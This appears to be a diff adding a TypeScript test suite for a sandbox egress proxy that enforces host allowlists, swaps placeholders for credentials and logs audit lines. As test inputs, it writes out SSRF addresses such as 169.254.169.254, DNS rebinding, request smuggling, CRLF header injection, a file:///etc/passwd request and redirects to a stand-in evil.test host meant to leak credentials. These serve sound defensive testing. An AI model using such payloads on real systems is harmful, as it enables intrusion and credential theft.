@@ -1,0 +1,312 @@
+import { CANARY, EgressWorld, PLACEHOLDER, type Door } from './egress-world';
+
+let world: EgressWorld;
+let https: number;
+let http2: number;
+let http: number;
+
+beforeAll(async () => {
+  world = await EgressWorld.open();
+  https = await world.servers.https();
+  http2 = await world.servers.https({ http2: true });
+  http = await world.servers.http();
+});
+afterAll(() => world.close());
+beforeEach(() => {
+  world.granted.clear();
+  world.brokerFails = false;
+  // What the gateway remembers of the test before is old.
+  world.ahead += 60_000_000;
+  world.servers.seen.length = 0;
+});
+
+const last = () => world.servers.seen.at(-1);
+
+describe('a limited session', () => {
+  let door: Door;
+  beforeEach(async () => (door = await world.door(['api.test', '*.wide.test'])));
+
+  it('reaches the hosts of its policy and is refused the others in the recorded words', async () => {
+    expect((await door.curl(`https://api.test:${https}/a`)).status).toBe(200);
+    expect((await door.curl(`https://x.y.wide.test:${https}/b`)).status).toBe(200);
+    expect((await door.curl(`http://api.test:${http}/c`)).status).toBe(200);
+    expect(world.servers.seen.map(({ path }) => path)).toEqual(['/a', '/b', '/c']);
+    expect((await door.curl(`https://wide.test:${https}/`)).connectStatus).toBe(403);
+    const plain = await door.curl(`http://other.test:${http}/`);
+    expect(plain).toMatchObject({ status: 403, body: 'Host not in allowlist: other.test' });
+    const said = await door.say('CONNECT other.test:443 HTTP/1.1\r\nhost: other.test:443\r\n\r\n');
+    expect(said).toContain('403 Forbidden');
+    expect(said).toContain('Host not in allowlist: other.test');
+  });
+
+  it('cannot name another host in the TLS of a connection to an allowed one', async () => {
+    const to = ['--connect-to', `evil.test:${https}:api.test:${https}`];
+    expect((await door.curl(`https://evil.test:${https}/`, ...to)).status).toBe(0);
+    expect(world.servers.seen).toEqual([]);
+    expect(await world.linesOf(door, 1)).toMatchObject([
+      { host: 'api.test', verdict: 'refused', reason: 'other_server_name' },
+    ]);
+  });
+
+  it('can send nothing but TLS through a tunnel', async () => {
+    const said = await door.say(
+      `CONNECT api.test:${http} HTTP/1.1\r\nhost: a\r\n\r\nGET / HTTP/1.1\r\nhost: evil.test\r\n\r\n`,
+    );
+    expect(said).toMatch(/^HTTP\/1.1 200 .*\r\n\r\n$/);
+    expect(world.servers.seen).toEqual([]);
+    expect(await world.linesOf(door, 1)).toMatchObject([{ verdict: 'refused', reason: 'not_tls' }]);
+  });
+
+  it('is taken at the word of the target, whatever the host header says', async () => {
+    await door.curl(`http://api.test:${http}/a`, '-H', 'Host: evil.test');
+    expect(last()).toMatchObject({ host: 'api.test', path: '/a' });
+    const said = await door.say(
+      `GET http://evil.test:${http}/ HTTP/1.1\r\nhost: api.test\r\nconnection: close\r\n\r\n`,
+    );
+    expect(said).toContain('Host not in allowlist: evil.test');
+  });
+});
+
+describe('what no session reaches', () => {
+  it.each(['169.254.169.254', '10.0.0.1', '[::1]', '[::ffff:169.254.169.254]', '0x7f.2', '2130706434', '0'])(
+    'the address %s',
+    async (address) => {
+      const door = await world.door(undefined);
+      const said = await door.say(`CONNECT ${address}:443 HTTP/1.1\r\nhost: a\r\n\r\n`);
+      expect(said).toMatch(/^HTTP\/1.1 403 /);
+      expect(said).toContain('Destination IP is in a private/reserved range');
+      const plain = await door.say(`GET http://${address}/ HTTP/1.1\r\nhost: a\r\nconnection: close\r\n\r\n`);
+      expect(plain).toContain('Destination IP is in a private/reserved range');
+    },
+  );
+
+  it('a name that leads to such an address, now or at another look-up', async () => {
+    const door = await world.door(['rebinding.example']);
+    world.servers.addresses.set('rebinding.example', ['169.254.169.254']);
+    expect((await door.curl('http://rebinding.example/')).body).toBe('Destination IP is in a private/reserved range');
+    expect((await door.curl('https://rebinding.example/')).connectStatus).toBe(403);
+    expect(world.servers.seen).toEqual([]);
+    // What was checked is what is connected to: there is no second look-up that could say something else.
+    world.servers.addresses.set('once.test', ['127.0.0.1', '169.254.169.254']);
+    expect((await (await world.door(undefined)).curl(`https://once.test:${https}/`)).status).toBe(200);
+    expect(world.servers.addresses.get('once.test')).toEqual(['169.254.169.254']);
+  });
+
+  it.each([
+    'CONNECT api.test HTTP/1.1',
+    'CONNECT api.test:0 HTTP/1.1',
+    'CONNECT api.test:99999 HTTP/1.1',
+    'CONNECT user@api.test:443 HTTP/1.1',
+    'CONNECT api.test:443/x HTTP/1.1',
+    'GET / HTTP/1.1',
+    'GET https://api.test/ HTTP/1.1',
+    'GET http://user:password@api.test/ HTTP/1.1',
+    'GET file:///etc/passwd HTTP/1.1',
+  ])('%s', async (line) => {
+    const said = await (await world.door(undefined)).say(`${line}\r\nhost: a\r\nconnection: close\r\n\r\n`);
+    expect(said).toMatch(/^HTTP\/1.1 400 /);
+    expect(world.servers.seen).toEqual([]);
+  });
+
+  it('what comes with headers without end', async () => {
+    const said = await (
+      await world.door(undefined)
+    ).say(`GET http://api.test:${http}/ HTTP/1.1\r\nhost: a\r\nx: ${'a'.repeat(100_000)}\r\n\r\n`);
+    expect(said).toMatch(/^HTTP\/1.1 431 /);
+  });
+
+  it('two requests hidden in one', async () => {
+    const door = await world.door(undefined);
+    const both = 'content-length: 5\r\ntransfer-encoding: chunked\r\n\r\n0\r\n\r\nGET /hidden HTTP/1.1\r\n\r\n';
+    expect(await door.say(`POST http://api.test:${http}/ HTTP/1.1\r\nhost: a\r\n${both}`)).toMatch(/^HTTP\/1.1 400 /);
+    expect(world.servers.seen).toEqual([]);
+    const inBody = 'GET /hidden HTTP/1.1\r\nhost: api.test\r\n\r\n';
+    await door.curl(`http://api.test:${http}/a`, '-X', 'GET', '-H', 'Transfer-Encoding: chunked', '-d', inBody);
+    expect(world.servers.seen.map(({ path, body }) => [path, body])).toEqual([['/a', inBody]]);
+  });
+});
+
+describe('a host with a credential', () => {
+  let door: Door;
+  beforeAll(async () => (door = await world.door(undefined)));
+
+  it.each(['http/1.1', 'h2'])('gets the value in headers and body over %s', async (protocol) => {
+    world.grant('api.test');
+    const port = protocol === 'h2' ? http2 : https;
+    const { status } = await door.curl(
+      `https://api.test:${port}/x?p=${PLACEHOLDER}`,
+      '-H',
+      `X-Api-Key: ${PLACEHOLDER}`,
+      '--data-binary',
+      `{"key":"${PLACEHOLDER}","rest":"abc"}`,
+    );
+    expect(status).toBe(200);
+    expect(last()).toMatchObject({
+      version: protocol === 'h2' ? '2.0' : '1.1',
+      path: `/x?p=${PLACEHOLDER}`,
+      body: `{"key":"${CANARY}","rest":"abc"}`,
+    });
+    expect(last()?.headers['x-api-key']).toBe(CANARY);
+    expect(last()?.headers['content-length']).toBe(String(last()?.body.length));
+  });
+
+  it('gets it in a password too', async () => {
+    world.grant('api.test');
+    await door.curl(`https://api.test:${https}/`, '-u', `user:${PLACEHOLDER}`);
+    const [, digits = ''] = last()?.headers.authorization?.split(' ') ?? [];
+    expect(Buffer.from(digits, 'base64').toString()).toBe(`user:${CANARY}`);
+  });
+
+  it('gets it in a body of any length and however it comes', async () => {
+    world.grant('api.test');
+    const filling = 'x'.repeat(3 * 1024 * 1024);
+    const body = `${filling}${PLACEHOLDER}${filling}${PLACEHOLDER}`;
+    const file = await world.file(body);
+    for (const port of [https, http2]) {
+      for (const how of [[], ['-H', 'Transfer-Encoding: chunked']]) {
+        const { status } = await door.curl(`https://api.test:${port}/header`, ...how, '--data-binary', `@${file}`);
+        expect(status).toBe(200);
+        expect(last()?.body === body.replaceAll(PLACEHOLDER, CANARY)).toBe(true);
+      }
+    }
+  });
+
+  it.each([
+    [{ inBody: false }, CANARY, PLACEHOLDER],
+    [{ inHeaders: false }, PLACEHOLDER, CANARY],
+  ])('gets it only where the credential says: %j', async (where, inHeader, inBody) => {
+    world.grant('api.test', where);
+    await door.curl(`https://api.test:${https}/`, '-H', `X-Api-Key: ${PLACEHOLDER}`, '-d', PLACEHOLDER);
+    expect(last()?.headers['x-api-key']).toBe(inHeader);
+    expect(last()?.body).toBe(inBody);
+  });
+
+  it.each(['/', '/gzip', '/br', '/base64', '/pieces', '/header'])(
+    'cannot show the value to the sandbox: %s',
+    async (path) => {
+      world.grant('api.test');
+      const url = `https://api.test:${https}${path}`;
+      const sent = ['-H', `X-Api-Key: ${PLACEHOLDER}`, '-u', `user:${PLACEHOLDER}`, '-d', PLACEHOLDER];
+      const said = await door.curl(url, ...sent, '-H', 'Accept-Encoding: gzip, br', '-H', 'Range: bytes=0-3');
+      expect(said.status).toBe(200);
+      expect(last()?.headers['x-api-key']).toBe(CANARY);
+      expect(last()?.headers).toMatchObject({ 'accept-encoding': 'identity' });
+      expect(last()?.headers.range).toBeUndefined();
+      const shown = `${said.headers}\n${said.body}`;
+      for (const form of formsOf(CANARY)) expect(shown).not.toContain(form);
+      if (path === '/') expect(said.body).toContain(PLACEHOLDER);
+    },
+  );
+
+  it('is not believed when it answers in an encoding that cannot be searched', async () => {
+    world.grant('api.test');
+    const said = await door.curl(`https://api.test:${https}/strange`, '-H', `X-Api-Key: ${PLACEHOLDER}`);
+    expect(said.status).toBe(502);
+    expect(said.body).not.toContain('canary');
+  });
+
+  it('cannot have the value sent on by a redirect', async () => {
+    world.grant('api.test');
+    const to = `https://evil.test:${https}/taken`;
+    await door.curl(`https://api.test:${https}/redirect?to=${to}`, '-L', '-H', `X-Api-Key: ${PLACEHOLDER}`);
+    expect(world.servers.seen.map(({ host, headers }) => [host, headers['x-api-key']])).toEqual([
+      ['api.test', CANARY],
+      ['evil.test', PLACEHOLDER],
+    ]);
+  });
+
+  it('is asked for nothing on behalf of another name', async () => {
+    world.grant('api.test');
+    const port = https;
+    const fronted = await door.curl(`https://api.test:${port}/`, '-H', 'Host: evil.test');
+    expect(fronted.status).toBe(421);
+    const other = await door.curl(`https://evil.test:${port}/`, '--connect-to', `evil.test:${port}:api.test:${port}`);
+    expect(other.status).toBe(0);
+    const absolute = await door.curl(`https://api.test:${port}/`, '--request-target', 'https://evil.test/');
+    expect(absolute.status).toBe(400);
+    expect(world.servers.seen).toEqual([]);
+  });
+
+  it('gets none over plain http, nor when its certificate is not its own', async () => {
+    world.grant('public.example');
+    world.servers.addresses.set('public.example', ['127.0.0.1']);
+    const plain = await door.curl(`http://public.example:${http}/`, '-H', `X-Api-Key: ${PLACEHOLDER}`);
+    expect(plain.status).toBe(403);
+    world.grant('api.test');
+    const untrusted = await EgressWorld.open();
+    try {
+      const port = await untrusted.servers.https();
+      const said = await door.curl(`https://api.test:${port}/`, '-H', `X-Api-Key: ${PLACEHOLDER}`);
+      expect(said).toMatchObject({ status: 502, body: expect.stringContaining('No connection to api.test') });
+      expect(untrusted.servers.seen).toEqual([]);
+    } finally {
+      await untrusted.close();
+    }
+  });
+
+  it('is refused a value that no header can hold, without a word of it', async () => {
+    world.grant('api.test', { value: 'canary\r\nx-evil: 1' });
+    const said = await door.curl(`https://api.test:${https}/`, '-H', `X-Api-Key: ${PLACEHOLDER}`);
+    expect(said.status).toBe(502);
+    expect(said.body).not.toContain('canary');
+    expect(world.servers.seen).toEqual([]);
+  });
+
+  it('gets a new value soon after it changed, and none that was taken away', async () => {
+    const send = () => door.curl(`https://api.test:${https}/`, '-H', `X-Api-Key: ${PLACEHOLDER}`);
+    world.grant('api.test', { value: 'value-one' });
+    await send();
+    world.granted.clear();
+    world.grant('api.test', { value: 'value-two' });
+    world.ahead += 5_000_000;
+    await send();
+    world.granted.clear();
+    world.ahead += 5_000_000;
+    await send();
+    expect(world.servers.seen.map(({ headers }) => headers['x-api-key'])).toEqual([
+      'value-one',
+      'value-two',
+      PLACEHOLDER,
+    ]);
+  });
+
+  it('gets nothing at all while the broker cannot be asked', async () => {
+    world.brokerFails = true;
+    expect((await door.curl(`https://api.test:${https}/`)).connectStatus).toBe(502);
+    expect(world.servers.seen).toEqual([]);
+  });
+
+  it('may speak something else than TLS with a session that is not limited', async () => {
+    world.grant('api.test');
+    const through = await door.curl(`http://api.test:${http}/a`, '--proxytunnel', '-H', `X-Api-Key: ${PLACEHOLDER}`);
+    expect(through.status).toBe(200);
+    expect(last()?.headers['x-api-key']).toBe(PLACEHOLDER);
+  });
+});
+
+describe('the audit lines', () => {
+  it('say of each connection whose it was, where it went, with which credentials, and how much', async () => {
+    world.grant('api.test');
+    const door = await world.door(['api.test', 'plain.test']);
+    await door.curl(`https://api.test:${https}/`, '-H', `X-Api-Key: ${PLACEHOLDER}`);
+    await door.curl(`https://plain.test:${https}/`);
+    await door.curl(`https://other.test:${https}/`);
+    const { sessionId } = door;
+    const lines = await world.linesOf(door, 3);
+    expect(lines).toMatchObject([
+      { sessionId, host: 'api.test', port: https, verdict: 'terminated', credentialIds: ['vcrd_1'] },
+      { sessionId, host: 'plain.test', verdict: 'tunnelled', credentialIds: [] },
+      { sessionId, host: 'other.test', verdict: 'refused', reason: 'not_allowed' },
+    ]);
+    expect(lines[0]?.bytesOut).toBeGreaterThan(100);
+    expect(lines[1]?.bytesIn).toBeGreaterThan(100);
+    expect(JSON.stringify(lines)).not.toContain('canary');
+  });
+});
+
+/** How a server may write a value. */
+function formsOf(value: string): string[] {
+  const bytes = Buffer.from(value);
+  const inside = Buffer.from(`user:${value}`).toString('base64').slice(8, 24);
+  return [value, JSON.stringify(value).slice(1, -1), encodeURIComponent(value), bytes.toString('hex'), inside];
+}
